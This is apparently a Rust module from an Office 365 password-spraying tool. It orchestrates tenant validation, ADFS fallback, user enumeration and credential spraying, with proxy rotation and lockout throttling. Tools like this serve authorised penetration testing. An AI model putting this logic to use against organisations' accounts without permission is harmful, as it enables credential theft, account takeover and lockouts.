//! Run orchestration: validation, enumeration, then spraying

use crate::config::{ModuleSelection, RunConfig};
use crate::counters::{CounterSnapshot, RunCounters};
use crate::error::{SprayError, SprayResult};
use crate::modules::SprayModule;
use crate::proxy::ProxyRotator;
use crate::scheduler::{PhaseOutcome, RunStatus, Scheduler, SchedulerSettings};
use crate::sink::ResultsSink;
use crate::sources::{load_credentials, load_identities};
use crate::types::{Identity, TenantKind};
use chrono::{DateTime, Utc};
use serde::{Deserialize, Serialize};
use std::collections::HashSet;
use std::sync::Arc;
use tracing::{info, warn};
use uuid::Uuid;

pub type RunId = Uuid;

/// Everything a run produced, successful or not
#[derive(Debug, Clone, Serialize, Deserialize)]
pub struct RunReport {
    pub run_id: RunId,
    pub domain: String,
    pub started_at: DateTime<Utc>,
    pub finished_at: DateTime<Utc>,
    /// `None` when validation was skipped
    pub tenant: Option<TenantKind>,
    /// Modules actually used, after overrides
    pub modules: ModuleSelection,
    pub enumeration: Option<PhaseOutcome>,
    pub spray: Option<PhaseOutcome>,
    pub counters: CounterSnapshot,
    pub status: RunStatus,
}

/// Drives one configured run to completion
#[derive(Debug)]
pub struct Runner {
    config: RunConfig,
    rotator: Arc<ProxyRotator>,
    counters: Arc<RunCounters>,
}

impl Runner {
    /// Validate `config` and build its transport
    pub fn new(config: RunConfig) -> SprayResult<Self> {
        config.validate()?;
        let rotator = ProxyRotator::new(&config.proxy, config.timeout)?;
        let counters = Arc::new(RunCounters::new(config.safe));
        Ok(Self {
            config,
            rotator: Arc::new(rotator),
            counters,
        })
    }

    pub fn config(&self) -> &RunConfig {
        &self.config
    }

    pub fn counters(&self) -> &Arc<RunCounters> {
        &self.counters
    }

    /// Stop dispatching new probes; `run` returns with what it gathered
    pub fn interrupt(&self) {
        self.counters.interrupt();
    }

    /// Run every configured phase.
    ///
    /// Errors are only returned before the first probe is scheduled. Once
    /// probing starts the report always comes back, with the reason for an
    /// early stop in its status.
    pub async fn run(&self) -> SprayResult<RunReport> {
        let config = &self.config;
        let run_id = Uuid::new_v4();
        let started_at = Utc::now();
        let domain = config.domain.trim().to_string();
        let mut modules = config.modules()?;
        let mut context = config.module_context();

        info!("Run {} against {}", run_id, domain);

        let mut identities = match (&config.identities, config.phases.enumerate || config.phases.spray) {
            (Some(source), true) => load_identities(source, &domain).await?,
            _ => Vec::new(),
        };
        let credentials = match (&config.credentials, config.phases.spray) {
            (Some(source), true) => load_credentials(source, &identities, &domain).await?,
            _ => Vec::new(),
        };

        let tenant = if config.adfs_url.is_some() {
            info!("ADFS AuthURL provided; skipping tenant validation");
            None
        } else {
            let validator = modules.validate.build(&context)?;
            let transport = self.rotator.acquire();
            let tenant = validator.validate(&domain, &transport).await?;
            match &tenant {
                TenantKind::Managed => info!("[VALID] The following domain is using O365: {}", domain),
                TenantKind::Federated { auth_url } => {
                    info!("[VALID] {} is federated", domain);
                    match auth_url {
                        Some(url) if config.phases.spray && modules.spray != SprayModule::Adfs => {
                            info!("Switching to ADFS module for password spraying ({})", url);
                            modules.spray = SprayModule::Adfs;
                            context = context.with_adfs_url(Some(url.clone()));
                        }
                        Some(url) => context = context.with_adfs_url(Some(url.clone())),
                        None => warn!("{} is federated but advertised no AuthURL", domain),
                    }
                }
                TenantKind::Unknown => {
                    return Err(SprayError::configuration(
                        "domain",
                        format!("{} does not appear to be using O365", domain),
                    ))
                }
            }
            Some(tenant)
        };

        let enumerator = config
            .phases
            .enumerate
            .then(|| modules.enumerate.build(&context))
            .transpose()?;
        let sprayer = config
            .phases
            .spray
            .then(|| modules.spray.build(&context))
            .transpose()?;

        let settings = SchedulerSettings {
            rate: config.rate,
            timeout: config.timeout,
            throttle: config.throttle(),
            retry: config.retry.clone(),
            wait_for_lockout_reset: config.wait_for_lockout_reset,
        };
        let scheduler = Scheduler::with_counters(
            settings,
            config.lockout,
            self.counters.clone(),
            self.rotator.clone(),
        );

        let mut enumeration = None;
        if let Some(module) = enumerator {
            let sink = ResultsSink::new();
            let outcome = scheduler.enumerate(module, identities.clone(), &sink).await;
            info!(
                "Enumeration found {} valid user(s) out of {}",
                outcome.snapshot.existing.len(),
                identities.len()
            );
            identities = outcome.snapshot.existing.iter().map(Identity::new).collect();
            enumeration = Some(outcome);
        }

        let mut spray = None;
        if let Some(module) = sprayer {
            match enumeration.as_ref().map(|outcome| outcome.status) {
                Some(
                    status @ (RunStatus::BreakerTripped | RunStatus::Interrupted | RunStatus::Aborted),
                ) => warn!("Skipping password spraying: enumeration ended {:?}", status),
                Some(_) if identities.is_empty() => {
                    warn!("No valid users found during enumeration; skipping password spraying")
                }
                enumerated => {
                    let credentials = if enumerated.is_some() {
                        let existing: HashSet<&Identity> = identities.iter().collect();
                        credentials
                            .into_iter()
                            .filter(|credential| existing.contains(&credential.identity))
                            .collect()
                    } else {
                        credentials
                    };
                    let sink = ResultsSink::new();
                    let outcome = scheduler.spray(module, credentials, &sink).await;
                    info!(
                        "Spraying found {} valid credential(s)",
                        outcome.snapshot.valid.len()
                    );
                    spray = Some(outcome);
                }
            }
        }

        let status = overall_status(enumeration.as_ref(), spray.as_ref());

        Ok(RunReport {
            run_id,
            domain,
            started_at,
            finished_at: Utc::now(),
            tenant,
            modules,
            enumeration,
            spray,
            counters: self.counters.snapshot(),
            status,
        })
    }
}

/// The most severe phase status wins
fn overall_status(enumeration: Option<&PhaseOutcome>, spray: Option<&PhaseOutcome>) -> RunStatus {
    [enumeration, spray]
        .into_iter()
        .flatten()
        .map(|outcome| outcome.status)
        .max_by_key(RunStatus::precedence)
        .unwrap_or(RunStatus::Exhausted)
}
